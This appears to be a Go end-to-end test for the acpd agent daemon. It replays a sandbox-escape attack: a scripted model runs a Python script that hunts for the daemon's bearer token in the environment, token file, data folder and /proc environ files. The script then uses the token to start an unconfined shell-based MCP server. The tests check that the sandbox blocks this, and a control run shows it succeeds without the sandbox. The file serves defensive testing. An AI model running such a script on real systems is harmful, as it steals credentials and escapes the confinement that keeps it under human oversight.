package servere2e

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/acpd/acpd/acp"
	"github.com/acpd/acpd/acp/acptest"
	"github.com/acpd/acpd/session/model/modeltest"
	"github.com/acpd/acpd/session/tools/sandbox/sandboxtest"
)

// attackScript is the second attack's confined command: it looks for the
// served daemon's bearer token wherever a command might find it — its own
// environment ($ACPD_SERVER_TOKEN), the token file `acpd serve
// --init-token` wrote, any file of acpd's data folder, the environment and
// command line of every process it can read — then uses every candidate
// (and none) to POST initialize and session/new to the daemon's /acp with
// an MCP server that is a shell: acpd would start it unconfined, as the
// user, and it leaves the file MARKER. It prints what it found and how
// each request went. {URL}, {TOKENFILE}, {DATADIR} and {MARKER} are
// replaced by the test (the attacker knows where acpd keeps things).
const attackScript = `
import glob, json, os, urllib.request
url, marker = "{URL}", "{MARKER}"
cands = []
def add(src, tok):
    tok = (tok or "").strip()
    if tok and tok not in [c for _, c in cands]:
        cands.append((src, tok))
        print("token-found:" + src)
add("env", os.environ.get("ACPD_SERVER_TOKEN"))
for f in ["{TOKENFILE}"] + glob.glob("{DATADIR}/**", recursive=True):
    try:
        add("file:" + f, open(f).read())
    except Exception as e:
        print("read-failed:%s:%s" % (f, type(e).__name__))
for p in glob.glob("/proc/[0-9]*"):
    try:
        for kv in open(p + "/environ", "rb").read().split(b"\0"):
            if kv.startswith(b"ACPD_SERVER_TOKEN="):
                add("environ:" + p, kv.split(b"=", 1)[1].decode())
    except Exception:
        pass
def post(tok, body, conn=None):
    req = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST")
    req.add_header("Content-Type", "application/json")
    req.add_header("Accept", "application/json, text/event-stream")
    if tok:
        req.add_header("Authorization", "Bearer " + tok)
    if conn:
        req.add_header("Acp-Connection-Id", conn)
    try:
        r = urllib.request.urlopen(req, timeout=10)
        return r.status, r.headers.get("Acp-Connection-Id")
    except urllib.error.HTTPError as e:
        return e.code, None
    except Exception as e:
        return type(e).__name__ + ":" + str(e), None
for src, tok in cands + [("none", "")]:
    st, conn = post(tok, {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": 1, "clientCapabilities": {}}})
    print("initialize(%s): %s" % (src, st))
    if st == 200 and conn:
        st, _ = post(tok, {"jsonrpc": "2.0", "id": 2, "method": "session/new", "params": {"cwd": "/", "mcpServers": [
            {"name": "x", "command": "/bin/sh", "args": ["-c", "echo escaped > " + marker], "env": []}]}}, conn)
        print("session/new(%s): %s" % (src, st))
print("attack-done")
`

// assertNoToken checks the attack's output for a token it found and used.
// Its own environment, the token file and the data folder must give none.
// The environ files of other processes are another matter: this test's
// subtests run in parallel, and an acpd another subtest has just started
// holds its own daemon's token in its environment for the milliseconds
// before it blanks it; a value from there is wrong here, so it must be
// refused (401) and nothing may authenticate.
func assertNoToken(t *testing.T, out string) {
	t.Helper()
	assert.NotContains(t, out, "token-found:env\n", "the command inherited the token:\n%s", out)
	assert.NotContains(t, out, "token-found:file", "the command read the token:\n%s", out)
	assert.NotRegexp(t, `initialize\([^)]*\): 200`, out, "a token the command found authenticated:\n%s", out)
	assert.NotRegexp(t, `session/new\(`, out, "the command opened a session:\n%s", out)
}

// escapeDaemon is a served daemon of a user of its own (root, or nobody),
// with that user's home folder, the token written by `acpd serve
// --init-token` in the default place and also given in $ACPD_SERVER_TOKEN,
// as the second attack found it.
type escapeDaemon struct {
	url, token, home, dataDir, tokenFile, marker string
	ws                                           string
	srv                                          *modeltest.Server
	cmd                                          *exec.Cmd
	stderr                                       *acptest.SyncBuffer
	// run makes a command of the daemon's user with its environment.
	run func(args ...string) *exec.Cmd
}

// startEscapeDaemon sets up the user's folders under a 0755 root (nobody
// must reach them), a copy of acpd it can run, runs --init-token and
// serves with flags; extra is added to the configuration file.
func startEscapeDaemon(t *testing.T, nobody bool, extra string, flags ...string) *escapeDaemon {
	t.Helper()
	root, err := os.MkdirTemp("", "acpd-escape-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(root) })
	require.NoError(t, os.Chmod(root, 0o755))
	d := &escapeDaemon{home: filepath.Join(root, "home"), marker: filepath.Join(root, "home", "escaped")}
	d.ws = filepath.Join(d.home, "proj")
	d.dataDir = filepath.Join(d.home, ".local", "state", "acpd")
	d.tokenFile = filepath.Join(d.dataDir, "server.token")
	bin := filepath.Join(root, "bin", "acpd")
	require.NoError(t, os.MkdirAll(filepath.Dir(bin), 0o755))
	b, err := os.ReadFile(acpdBin)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(bin, b, 0o755))
	require.NoError(t, os.MkdirAll(d.ws, 0o755))
	var cred *syscall.Credential
	if nobody {
		cred = &syscall.Credential{Uid: 65534, Gid: 65534}
		require.NoError(t, filepath.Walk(d.home, func(p string, _ os.FileInfo, err error) error {
			if err != nil {
				return err
			}
			return os.Chown(p, 65534, 65534)
		}))
	}
	env := []string{"HOME=" + d.home, "PATH=" + os.Getenv("PATH"), "LANG=C.UTF-8"}
	d.run = func(args ...string) *exec.Cmd {
		c := exec.Command(bin, args...)
		c.Dir, c.Env = d.home, slices.Clone(env)
		c.SysProcAttr = &syscall.SysProcAttr{Credential: cred}
		return c
	}
	// The copy was just written: a child another parallel test forks in
	// that moment holds the write descriptor until its own exec, and
	// running the copy meanwhile fails with ETXTBSY. It passes in a moment.
	var out []byte
	for range 100 {
		if out, err = d.run("serve", "--init-token").CombinedOutput(); !errors.Is(err, syscall.ETXTBSY) {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	require.NoError(t, err, "%s", out)
	tb, err := os.ReadFile(d.tokenFile)
	require.NoError(t, err)
	d.token = strings.TrimSpace(string(tb))
	require.Contains(t, string(out), d.token)
	cfg := filepath.Join(d.home, "serve.toml")
	require.NoError(t, os.WriteFile(cfg, []byte("[server]\ntokenEnv = \"ACPD_SERVER_TOKEN\"\n"+extra), 0o644))
	if nobody {
		require.NoError(t, os.Chown(cfg, 65534, 65534))
	}
	d.srv = modeltest.NewServer(t)
	env = append(env, "ACPD_SERVER_TOKEN="+d.token, "OPENAI_API_KEY=test-key")
	d.cmd = d.run(append([]string{"serve", "--listen", "127.0.0.1:0", "--config", cfg, "--provider", "openai",
		"--base-url", d.srv.BaseURL(), "--model", "scripted", "--approval-mode", "yolo", "--log-level", "info"}, flags...)...)
	d.stderr = &acptest.SyncBuffer{}
	pr, pw := io.Pipe()
	d.cmd.Stderr = pw
	require.NoError(t, d.cmd.Start())
	found := make(chan string, 1)
	go func() {
		sc := bufio.NewScanner(pr)
		for sc.Scan() {
			_, _ = d.stderr.Write([]byte(sc.Text() + "\n"))
			if u := addrLine.FindString(sc.Text()); u != "" {
				select {
				case found <- u:
				default:
				}
			}
		}
	}()
	t.Cleanup(func() {
		_ = d.cmd.Process.Signal(os.Interrupt)
		done := make(chan struct{})
		go func() { _ = d.cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(20 * time.Second):
			_ = d.cmd.Process.Kill()
			<-done
		}
		_ = pw.Close()
		if t.Failed() {
			t.Logf("acpd serve stderr:\n%s", d.stderr.String())
		}
	})
	select {
	case d.url = <-found:
	case <-time.After(60 * time.Second):
		t.Fatalf("acpd serve did not start; stderr:\n%s", d.stderr.String())
	}
	return d
}

// attack has the daemon's model run attackScript in a new session and
// returns the command's output.
func (d *escapeDaemon) attack(t *testing.T) string {
	t.Helper()
	hs := acptest.DialHTTP(d.url, http.Header{"Authorization": {"Bearer " + d.token}}, nil)
	t.Cleanup(func() { _ = hs.Close() })
	return d.attackThrough(t, acptest.NewClientConn(t, nil, hs.Reader(), hs), d.srv)
}

// attackThrough has the model behind cc (whose script srv is) run
// attackScript against d, and returns what the command printed.
func (d *escapeDaemon) attackThrough(t *testing.T, cc *acptest.ClientConn, srv *modeltest.Server) string {
	t.Helper()
	script := strings.NewReplacer("{URL}", d.url, "{TOKENFILE}", d.tokenFile, "{DATADIR}", d.dataDir, "{MARKER}", d.marker).Replace(attackScript)
	srv.Add(
		modeltest.Response{ToolCalls: []modeltest.ToolCall{shell("python3 - <<'EOF'\n" + script + "\nEOF")}},
		modeltest.Response{Text: "done"},
	)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	_, err := cc.InitializeWith(ctx, acp.ClientCapabilities{})
	require.NoError(t, err)
	sid, err := cc.NewSession(ctx, d.ws)
	require.NoError(t, err)
	resp, err := cc.Prompt(ctx, sid, "look around")
	require.NoError(t, err)
	require.Equal(t, acp.StopEndTurn, resp.StopReason)
	reqs := srv.Requests()
	msgs := reqs[len(reqs)-1].Messages
	out := msgs[len(msgs)-1].Text()
	require.Contains(t, out, "\nattack-done\n", "the attack ran to its end")
	// What the command printed, not its text (which the result repeats).
	_, printed, _ := strings.Cut(out, "\nOutput: ")
	return printed
}

// escaped reports whether the MCP server the attack asked for ran, giving
// a started one a moment to write.
func (d *escapeDaemon) escaped() bool {
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(d.marker); err == nil {
			return true
		}
		time.Sleep(100 * time.Millisecond)
	}
	return false
}

// TestRemote_ConfinedCommandCannotDriveTheDaemon replays the second attack's
// first finding against the built binary, as root and as nobody: a served
// daemon on loopback with the network open, the token in the default file
// and in $ACPD_SERVER_TOKEN, and a confined command that looks for the token
// and drives the daemon's API with it to start an unconfined MCP server. It
// finds no token (not in its environment, not in the token file or the data
// folder, not in the daemon's environment), and cannot even connect to the
// daemon's port. The control, with the sandbox off, shows the attack is real:
// there the token file is readable and the MCP server starts.
func TestRemote_ConfinedCommandCannotDriveTheDaemon(t *testing.T) {
	sandboxtest.Require(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("SKIPPED: python3 is not installed; the attack is a python3 script")
	}
	users := []bool{false}
	if os.Geteuid() == 0 {
		users = append(users, true)
	} else {
		t.Log("not root: the variant as nobody is not run")
	}
	for _, nobody := range users {
		name := "root"
		if nobody {
			name = "nobody"
		} else if os.Geteuid() != 0 {
			name = "user"
		}
		t.Run(name+"/network open", func(t *testing.T) {
			t.Parallel()
			d := startEscapeDaemon(t, nobody, "", "--sandbox", "required")
			out := d.attack(t)
			assertNoToken(t, out)
			assert.NotContains(t, out, d.token)
			assert.Contains(t, out, "read-failed:"+d.tokenFile+":PermissionError")
			assert.NotContains(t, out, "initialize(none): 401", "the daemon's port answered a confined command:\n%s", out)
			assert.Contains(t, out, "initialize(none): URLError", out)
			assert.False(t, d.escaped(), "the attack started its MCP server:\n%s", out)
		})
		t.Run(name+"/network through the proxy", func(t *testing.T) {
			// Even with every loopback name allowed, the proxy never
			// reaches the port of the daemon that runs the command, and
			// the command has no other way out of its network namespace.
			t.Parallel()
			sandboxtest.RequirePrivateShm(t, acpdBin)
			d := startEscapeDaemon(t, nobody, "[tools]\nsandboxNetwork = \"proxy\"\nsandboxAllowedDomains = [\"localhost\", \"127.0.0.1\"]\n", "--sandbox", "required")
			out := d.attack(t)
			assertNoToken(t, out)
			assert.Contains(t, out, "read-failed:"+d.tokenFile+":PermissionError")
			assert.Contains(t, out, "initialize(none): 403", "the proxy refuses acpd's own port:\n%s", out)
			assert.False(t, d.escaped(), "the attack started its MCP server:\n%s", out)
		})
		t.Run(name+"/from acpd on stdio", func(t *testing.T) {
			// The user's editor runs acpd on stdio while the served daemon
			// runs: same user, same data folder. Its commands find no token
			// either (the served daemon's port is not one this acpd knows
			// to close: it answers 401).
			t.Parallel()
			d := startEscapeDaemon(t, nobody, "", "--sandbox", "required")
			srv := modeltest.NewServer(t)
			stdio := d.run("--provider", "openai", "--base-url", srv.BaseURL(), "--model", "scripted", "--approval-mode", "yolo",
				"--sandbox", "required", "--log-level", "warn")
			stdio.Env = append(stdio.Env, "ACPD_SERVER_TOKEN="+d.token, "OPENAI_API_KEY=test-key")
			stdin, err := stdio.StdinPipe()
			require.NoError(t, err)
			stdout, err := stdio.StdoutPipe()
			require.NoError(t, err)
			stderr := &acptest.SyncBuffer{}
			stdio.Stderr = stderr
			require.NoError(t, stdio.Start())
			t.Cleanup(func() {
				_ = stdin.Close()
				acptest.WaitExit(t, stdio, 20*time.Second)
				if t.Failed() {
					t.Logf("acpd (stdio) stderr:\n%s", stderr.String())
				}
			})
			out := d.attackThrough(t, acptest.NewClientConn(t, nil, stdout, stdin), srv)
			assertNoToken(t, out)
			assert.Contains(t, out, "read-failed:"+d.tokenFile+":PermissionError")
			assert.Contains(t, out, "initialize(none): 401", out)
			assert.False(t, d.escaped(), "the attack started its MCP server:\n%s", out)
		})
		t.Run(name+"/control, sandbox off", func(t *testing.T) {
			t.Parallel()
			d := startEscapeDaemon(t, nobody, "", "--sandbox", "off")
			out := d.attack(t)
			assert.Contains(t, out, "token-found:file:"+d.tokenFile, out)
			assert.NotContains(t, out, "token-found:env\n", "the environment is filtered in every mode")
			assert.Contains(t, out, fmt.Sprintf("session/new(file:%s): 202", d.tokenFile), out)
			assert.True(t, d.escaped(), "the control's MCP server did not run: the test does not replay the attack\n%s", out)
		})
	}
}
